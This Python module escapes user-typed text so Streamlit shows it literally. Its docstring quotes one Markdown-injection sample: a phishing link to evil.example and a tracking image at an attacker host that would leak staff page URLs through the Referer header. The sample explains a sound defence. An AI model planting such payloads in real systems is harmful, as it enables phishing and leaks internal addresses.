"""Text that customers, imports, the operator's systems or staff typed, shown exactly as typed.

Streamlit reads Markdown in st.markdown, st.write, st.caption, st.title, st.subheader, the
st.info/success/warning/error boxes, and in the labels of widgets, expanders, tabs, metrics and
radio options. An anonymous respondent's comment such as
``[官方补偿通道](https://evil.example/refund) ![](http://attacker/x.png)`` would otherwise become
a link on a staff page and an image that every staff browser fetches from the attacker (who
then learns the staff page from the Referer). Wrap such text in ``plain`` wherever it reaches
one of those, including values put into a translated sentence: ``tr("...", name=plain(name))``.
Widgets that show text as it is (st.text, st.code, st.dataframe, selectbox and multiselect
options) need no wrapping, and must not get it: they would show the backslashes.
"""

from __future__ import annotations

import re

# The ASCII punctuation that starts or closes a Markdown construct (CommonMark, GitHub's
# tables and strikethrough, Streamlit's :color[...] directives, emoji shortcodes and $math$).
# A backslash before any ASCII punctuation is a literal character in CommonMark; the rest of
# the punctuation (, ; ? ' " / % @) means nothing on its own and stays readable.
MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+\-./!|~:$&=^])")
# GitHub's "autolink literals" (a bare https://..., www.... or name@host) are found in the text
# after the escapes are resolved, so escaping cannot stop them: an invisible word joiner inside
# the pattern does, and changes nothing a reader sees.
AUTOLINK_START = re.compile(r"(?<=:)(?=//)|(?i:(?<=www))(?=\.)|(?<=@)|(?<=:)(?=[A-Za-z])")
WORD_JOINER = "\u2060"
LINE_END = re.compile(r"\r\n|\r|\n")
# Spaces or a tab at the start of a line would make a code block, where escapes show as
# backslashes: non-breaking spaces indent the same and mean nothing to Markdown.
INDENT = re.compile(r"^[ \t]+", re.M)
NO_BREAK_SPACE = "\u00a0"


def plain(text: object) -> str:
    """``text`` as Markdown that Streamlit shows literally: no link, image, emphasis, heading,
    list, HTML or directive, and its line breaks kept. None shows as nothing."""
    if text is None:
        return ""
    defused = AUTOLINK_START.sub(WORD_JOINER, str(text))
    escaped = MARKDOWN_PUNCTUATION.sub(r"\\\1", LINE_END.sub("\n", defused))
    indented = INDENT.sub(lambda found: NO_BREAK_SPACE * len(found.group(0).expandtabs(4)), escaped)
    return indented.replace("\n", "  \n")
